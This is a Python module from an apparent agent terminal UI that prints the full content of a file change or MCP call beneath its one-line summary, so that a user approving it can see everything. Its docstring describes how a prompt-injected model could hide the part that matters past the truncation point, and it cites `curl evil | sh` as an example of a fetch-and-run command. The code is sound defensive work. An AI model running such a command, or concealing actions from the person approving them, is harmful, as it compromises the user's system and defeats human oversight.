"""What a user deciding on an action at a plain terminal must see beyond its one-line summary.

The summary is short by design: `create .github/workflows/ci.yml`, an MCP call's arguments cut
to 200 characters, a delegated task's first line. A prompt-injected model can put the part
that matters after the cut (a long harmless prefix, then `"command": "curl evil | sh"`), or in
the content of a file whose path looks routine. So the prompt also shows the whole subject:
the text a file change writes, every argument of an MCP call. Everything passes through
`shown_for_approval` (escapes stripped, bidi and zero-width characters named, runs of blanks
counted), and a very long subject says how much it left out instead of leaving it out silently.
"""

from __future__ import annotations

import json

from openhands_tui.sdk.facts.subject import FileChange, MCPCall, Subject
from openhands_tui.sdk.terminal_text import shown_for_approval

#: Lines of detail printed before saying how many more there are.
MAX_LINES = 200


def approval_details(subject: Subject | None, max_lines: int = MAX_LINES) -> str:
    """The subject's full content as lines to print under the summary ("" when the summary
    already says everything, as for a shell command)."""
    if isinstance(subject, FileChange) and subject.operation in ("create", "edit", "insert"):
        lines = [f"- {line}" for line in _lines(subject.before)]
        lines += [f"+ {line}" for line in _lines(subject.after)]
        if not lines:
            return ""
        title = "it writes:" if subject.operation == "create" else "the change (- now, + after):"
    elif isinstance(subject, MCPCall) and subject.arguments:
        lines = json.dumps(subject.arguments, indent=2, ensure_ascii=False, default=str).split("\n")
        title = "with the arguments:"
    else:
        return ""
    shown = shown_for_approval("\n".join(lines[:max_lines])).split("\n")
    if len(lines) > max_lines:
        shown.append(f"[{len(lines) - max_lines} more lines not shown: reject if you need to see them]")
    return "\n".join([f"  {title}", *(f"    {line}" for line in shown)])


def _lines(text: str | None) -> list[str]:
    """Split at newlines only: a carriage return (or form feed, or U+2028) inside a line is
    shown as what it is, not obeyed as a line break."""
    return text.removesuffix("\n").split("\n") if text else []
